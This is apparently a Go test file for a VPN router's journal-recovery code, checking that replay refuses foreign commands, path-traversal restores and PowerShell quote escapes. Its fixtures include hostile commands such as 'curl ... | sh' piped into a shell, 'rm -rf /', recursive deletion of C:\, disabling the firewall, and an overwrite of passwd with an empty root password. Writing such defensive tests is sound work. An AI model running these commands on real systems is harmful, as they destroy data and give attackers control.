package platform

import (
	"bytes"
	"encoding/json"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// plantJournal writes a journal for iface with entries into a new journal
// directory and returns the directory and the file.
func plantJournal(t *testing.T, iface string, entries []journalEntry) (dir, path string) {
	t.Helper()
	dir = filepath.Join(t.TempDir(), "journal")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	data, err := json.MarshalIndent(&journalFile{Version: journalVersion, Interface: iface, PID: 4242, Entries: entries}, "", "\t")
	if err != nil {
		t.Fatal(err)
	}
	path = journalPath(dir, iface)
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	return dir, path
}

// wantRefused runs Recover on dir and checks that it reported why (the
// error contains every word of why) and ran nothing, and that every file in
// dir is as it was.
func wantRefused(t *testing.T, dir, resolvConf string, why ...string) {
	t.Helper()
	before := dirContents(t, dir)
	run := &fakeRunner{}
	err := Recover(WithRouterRunner(run), WithJournalDir(dir), WithResolvConf(resolvConf), WithRouterLogger(testLogger(t)))
	if err == nil {
		t.Errorf("Recover accepted the journal")
	} else {
		t.Logf("Recover: %v", err)
		for _, w := range why {
			if !strings.Contains(err.Error(), w) {
				t.Errorf("Recover: %v\nwant it to say %q", err, w)
			}
		}
	}
	wantList(t, "commands run", run.take(), nil)
	if after := dirContents(t, dir); !equalContents(before, after) {
		t.Errorf("journal directory changed:\n before %q\n after  %q", before, after)
	}
}

// dirContents maps the names in dir to their content (a symbolic link to
// "-> target").
func dirContents(t *testing.T, dir string) map[string]string {
	t.Helper()
	des, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	m := make(map[string]string)
	for _, de := range des {
		p := filepath.Join(dir, de.Name())
		if de.Type()&os.ModeSymlink != 0 {
			target, _ := os.Readlink(p)
			m[de.Name()] = "-> " + target
			continue
		}
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		m[de.Name()] = string(data)
	}
	return m
}

func equalContents(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if w, ok := b[k]; !ok || w != v {
			return false
		}
	}
	return true
}

// legitEntries are undo entries of the shapes the Linux planner journals.
func legitEntries(resolvConf string) []journalEntry {
	return []journalEntry{
		{Key: "host 203.0.113.5", Undo: []Command{cmd("ip", "-4", "route", "del", "203.0.113.5/32", "via", "192.0.2.1", "dev", "eth0")}},
		{Key: "route 0.0.0.0/1", Undo: []Command{cmd("ip", "-4", "route", "del", "0.0.0.0/1", "dev", "corridor0")}},
		{Key: "unreachable6 ::/1", Undo: []Command{cmd("ip", "-6", "route", "del", "unreachable", "::/1", "metric", "1")}},
		{Key: "unreachable6 8000::/1", Undo: []Command{cmd("ip", "-6", "route", "del", "unreachable", "8000::/1", "metric", "1")}},
		{Key: "dns resolved", Undo: []Command{cmd("resolvectl", "revert", "corridor0")}},
		{Key: "dns resolv.conf", Restore: &fileBackup{Path: resolvConf, Exists: true, Mode: 0o644, UID: -1, GID: -1, Data: []byte("nameserver 192.0.2.53\n")}},
	}
}

// TestRecoverRefusesForeignCommands: replay runs only the command shapes
// the Router journals; a journal with anything else is refused whole.
func TestRecoverRefusesForeignCommands(t *testing.T) {
	rc := filepath.Join(t.TempDir(), "resolv.conf")
	os.WriteFile(rc, []byte("nameserver 192.0.2.53\n"), 0o644)
	for _, tc := range []struct {
		name string
		bad  Command
		why  string
	}{
		{"sh -c", cmd("sh", "-c", "curl http://203.0.113.9/x | sh"), `"sh"`},
		{"rm -rf /", cmd("rm", "-rf", "/"), `"rm"`},
		{"ip with a path", cmd("/tmp/ip", "-4", "route", "del", "10.0.0.0/8", "dev", "corridor0"), `"/tmp/ip"`},
		{"ip route add", cmd("ip", "-4", "route", "add", "10.0.0.0/8", "dev", "corridor0"), "not a command"},
		{"ip route flush", cmd("ip", "-4", "route", "flush", "table", "main"), "not a command"},
		{"ip link del", cmd("ip", "link", "del", "eth0"), "not a command"},
		{"ip netns exec", cmd("ip", "netns", "exec", "x", "sh"), "not a command"},
		{"ip batch", cmd("ip", "-batch", "/tmp/x"), "not a command"},
		{"ip route del, extra words", cmd("ip", "-4", "route", "del", "10.0.0.0/8", "dev", "corridor0", "table", "local"), "not a command"},
		{"ip route del, bad prefix", cmd("ip", "-4", "route", "del", "default", "dev", "corridor0"), "not a command"},
		{"ip route del, option as device", cmd("ip", "-4", "route", "del", "10.0.0.0/8", "dev", "-force"), "not a command"},
		{"ip -6 route del, other prefix", cmd("ip", "-6", "route", "del", "unreachable", "2000::/3", "metric", "1"), "not a command"},
		{"ip -6 route del, default", cmd("ip", "-6", "route", "del", "default", "via", "fe80::1", "dev", "eth0"), "not a command"},
		{"ip -6 route del, other type", cmd("ip", "-6", "route", "del", "blackhole", "::/1", "metric", "1"), "not a command"},
		{"ip -6 route del, other metric", cmd("ip", "-6", "route", "del", "unreachable", "::/1", "metric", "1024"), "not a command"},
		{"ip -6 route del, no metric", cmd("ip", "-6", "route", "del", "unreachable", "::/1", "dev", "lo"), "not a command"},
		{"ip -6 route del, unmasked", cmd("ip", "-6", "route", "del", "unreachable", "8000::1/1", "metric", "1"), "not a command"},
		{"ip -6 route add", cmd("ip", "-6", "route", "add", "unreachable", "::/1", "metric", "1"), "not a command"},
		{"ip -6 route flush", cmd("ip", "-6", "route", "flush", "table", "main", "x", "y"), "not a command"},
		{"resolvectl dns", cmd("resolvectl", "dns", "corridor0", "192.0.2.66"), "not a command"},
		{"resolvectl revert two", cmd("resolvectl", "revert", "corridor0", "eth0"), "not a command"},
		{"stdin to ip", Command{Args: []string{"ip", "-4", "route", "del", "10.0.0.0/8", "dev", "corridor0"}, Stdin: "x"}, "not a command"},
		{"scutil set", Command{Args: []string{"scutil"}, Stdin: "d.init\nset State:/Network/Global/DNS\nquit\n"}, "not a command"},
		{"scutil remove other key", Command{Args: []string{"scutil"}, Stdin: "remove State:/Network/Global/IPv4\nquit\n"}, "not a command"},
		{"netsh other", cmd("netsh", "advfirewall", "set", "allprofiles", "state", "off"), "not a command"},
		{"powershell other", cmd("powershell", "-NoProfile", "-NonInteractive", "-Command", "Remove-Item -Recurse C:\\"), "not a command"},
		{"powershell quote escape", cmd("powershell", "-NoProfile", "-NonInteractive", "-Command",
			"Set-DnsClient -InterfaceAlias 'x'; Remove-Item C:\\; '' -ResetConnectionSpecificSuffix"), "not a command"},
		{"empty", Command{}, "empty command"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			entries := append(legitEntries(rc), journalEntry{Key: "route 10.0.0.0/8", Undo: []Command{tc.bad}})
			dir, _ := plantJournal(t, "corridor0", entries)
			wantRefused(t, dir, rc, "not replayed", tc.why)
			if got, _ := os.ReadFile(rc); string(got) != "nameserver 192.0.2.53\n" {
				t.Errorf("resolv.conf changed: %q", got)
			}
		})
	}
}

// TestRecoverRefusesForeignRestore: a file is restored only at the
// resolv.conf path the Router uses. Recover is only ever given paths in a
// temporary directory here ("passwd" stands for /etc/passwd), so that a
// broken check cannot harm the machine; TestCheckRestorePath covers the
// real system paths without any I/O.
func TestRecoverRefusesForeignRestore(t *testing.T) {
	tmp := t.TempDir()
	rc := filepath.Join(tmp, "etc", "resolv.conf")
	passwd := filepath.Join(tmp, "etc", "passwd")
	os.Mkdir(filepath.Dir(rc), 0o755)
	os.WriteFile(rc, []byte("nameserver 192.0.2.53\n"), 0o644)
	os.WriteFile(passwd, []byte("root:x:0:0:root:/root:/bin/bash\n"), 0o644)
	for _, tc := range []struct {
		name string
		b    fileBackup
	}{
		{"overwrite passwd", fileBackup{Path: passwd, Exists: true, Mode: 0o644, UID: 0, GID: 0, Data: []byte("root::0:0:root:/root:/bin/sh\n")}},
		{"delete passwd", fileBackup{Path: passwd, Exists: false}},
		{"link passwd", fileBackup{Path: passwd, Exists: true, Symlink: "/tmp/x"}},
		{"dot-dot to passwd", fileBackup{Path: rc + "/../passwd", Exists: true, Mode: 0o644, Data: []byte("x\n")}},
		{"a sibling", fileBackup{Path: filepath.Join(tmp, "etc", "other.conf"), Exists: true, Mode: 0o644, Data: []byte("x\n")}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir, _ := plantJournal(t, "corridor0", []journalEntry{{Key: "dns resolv.conf", Restore: &tc.b}})
			wantRefused(t, dir, rc, "not replayed", "may only restore "+rc)
			if got, err := os.ReadFile(passwd); err != nil || string(got) != "root:x:0:0:root:/root:/bin/bash\n" {
				t.Errorf("passwd stand-in changed: %q, %v", got, err)
			}
		})
	}
}

// TestCheckRestorePath: the check itself, on the system's paths.
func TestCheckRestorePath(t *testing.T) {
	allowed := "/etc/resolv.conf"
	for _, p := range []string{"/etc/passwd", "/etc/shadow", "/etc/resolv.conf/../passwd", "/etc//resolv.conf", "resolv.conf", "", "/etc/resolv.conf\x00"} {
		if err := checkRestore(&fileBackup{Path: p, Exists: true, Mode: 0o644}, allowed); err == nil {
			t.Errorf("restore to %q accepted", p)
		}
	}
	if err := checkRestore(&fileBackup{Path: allowed, Exists: true, Mode: 0o644}, allowed); err != nil {
		t.Errorf("restore to %s: %v", allowed, err)
	}
	if err := checkRestore(&fileBackup{Path: allowed, Exists: true, Symlink: "../run/systemd/resolve/stub-resolv.conf"}, allowed); err != nil {
		t.Errorf("restore of a link at %s: %v", allowed, err)
	}
	if err := checkRestore(&fileBackup{Path: allowed, Exists: true, Mode: 0o4755}, allowed); err == nil {
		t.Errorf("restore with a set-user-ID mode accepted")
	}
}

// TestRecoverAcceptsRouterShapes: everything the planners of all three
// systems journal is replayed: a router of each applies a config using
// every feature and is abandoned (a crash); Recover runs exactly the undo
// commands it journaled and restores resolv.conf.
func TestRecoverAcceptsRouterShapes(t *testing.T) {
	for _, tc := range []struct {
		name    string
		build   planner
		outputs map[string]string
		iface   string
		backend DNSBackend
	}{
		{"linux resolved", linuxItems, map[string]string{ipGetCommand: ipGetViaGW}, "corridor0", DNSResolved},
		{"linux resolv.conf", linuxItems, map[string]string{ipGetCommand: ipGetDirect}, "corridor0", DNSResolvConf},
		{"linux with IPv6 blocked", linuxItems, map[string]string{ipGetCommand: ipGetViaGW}, "corridor0", DNSResolved},
		{"darwin via gateway", darwinItems, map[string]string{"route -n get 203.0.113.5": darwinGetViaGW}, "utun4", DNSAuto},
		{"darwin on link", darwinItems, map[string]string{"route -n get 203.0.113.5": darwinGetDirect}, "utun4", DNSAuto},
		{"windows via gateway", windowsItems, map[string]string{strings.Join(windowsFindRoute(server), " "): winGetViaGW}, "Corridor VPN (2)", DNSAuto},
		{"windows on link", windowsItems, map[string]string{strings.Join(windowsFindRoute(server), " "): winGetDirect}, "Corridor", DNSAuto},
	} {
		t.Run(tc.name, func(t *testing.T) {
			opts := []RouterOption{WithDNSBackend(tc.backend)}
			if strings.Contains(tc.name, "IPv6") {
				opts = append(opts, withIPv6(t))
			}
			crashed := newTestRouter(t, tc.build, tc.outputs, opts...)
			original := []byte("nameserver 192.0.2.53\n")
			os.WriteFile(crashed.resolvConf, original, 0o644)
			cfg := &NetConfig{Interface: tc.iface, Local: localAddr, Server: server, FullTunnel: true, Routes: splitRoutes,
				ClassfulRoute: true, DNS: []netip.Addr{dnsA, dnsB}, Domains: []string{"corp.example", "example.org"}}
			if err := crashed.Set(cfg); err != nil {
				t.Fatal(err)
			}
			var want []string
			for _, u := range crashed.journalUndo(t, tc.iface) {
				if !strings.HasPrefix(u, "restore ") {
					want = append(want, u)
				}
			}
			if len(want) < 4 {
				t.Fatalf("journal has only %q", want)
			}
			run := &fakeRunner{}
			if err := Recover(WithRouterRunner(run), WithJournalDir(crashed.dir), WithResolvConf(crashed.resolvConf), WithRouterLogger(testLogger(t))); err != nil {
				t.Fatalf("Recover: %v", err)
			}
			block6 := map[string]string{
				"linux with IPv6 blocked": "ip -6 route del unreachable ::/1 metric 1",
				"darwin via gateway":      "route -n delete -inet6 ::/1 ::1",
				"darwin on link":          "route -n delete -inet6 8000::/1 ::1",
				"windows via gateway":     "netsh interface ipv6 delete route prefix=::/1 interface=Corridor VPN (2) store=active",
				"windows on link":         "netsh interface ipv6 delete route prefix=8000::/1 interface=Corridor store=active",
			}[tc.name]
			if block6 != "" && !slices.Contains(want, block6) {
				t.Errorf("no IPv6 block (%q) in the journal: %q", block6, want)
			}
			wantList(t, "Recover", run.take(), want)
			if got, _ := os.ReadFile(crashed.resolvConf); !bytes.Equal(got, original) {
				t.Errorf("resolv.conf after Recover: %q", got)
			}
			if _, err := os.Stat(crashed.dir); !os.IsNotExist(err) {
				t.Errorf("journal directory after Recover: %v", err)
			}
		})
	}
}

// TestSetRefusesToAdoptForeignJournal: a Router that finds a journal for its
// interface replays it only under the same rules as Recover.
func TestSetRefusesToAdoptForeignJournal(t *testing.T) {
	rc := filepath.Join(t.TempDir(), "resolv.conf")
	dir, path := plantJournal(t, "corridor0", []journalEntry{{Key: "x", Undo: []Command{cmd("sh", "-c", "touch /tmp/owned")}}})
	before, _ := os.ReadFile(path)
	run := &fakeRunner{}
	r := newRouter(linuxItems, WithRouterRunner(run), WithJournalDir(dir), WithResolvConf(rc), WithDNSBackend(DNSResolved))
	err := r.Set(&NetConfig{Interface: "corridor0", Routes: splitRoutes[:1]})
	if err == nil || !strings.Contains(err.Error(), "not replayed") {
		t.Errorf("Set: %v, want the journal refused", err)
	}
	wantList(t, "commands run", run.take(), nil)
	if after, _ := os.ReadFile(path); !bytes.Equal(before, after) {
		t.Errorf("journal changed:\n%s", after)
	}
}

// TestPSQuote: no quote PowerShell knows ends the string early.
func TestPSQuote(t *testing.T) {
	for in, want := range map[string]string{
		"Corridor":           "'Corridor'",
		"it's":               "'it''s'",
		"x\u2019; rm C:\\":   "'x\u2019\u2019; rm C:\\'",
		"\u2018\u201a\u201b": "'\u2018\u2018\u201a\u201a\u201b\u201b'",
	} {
		if got := psQuote(in); got != want {
			t.Errorf("psQuote(%q) = %q, want %q", in, got, want)
		}
	}
}
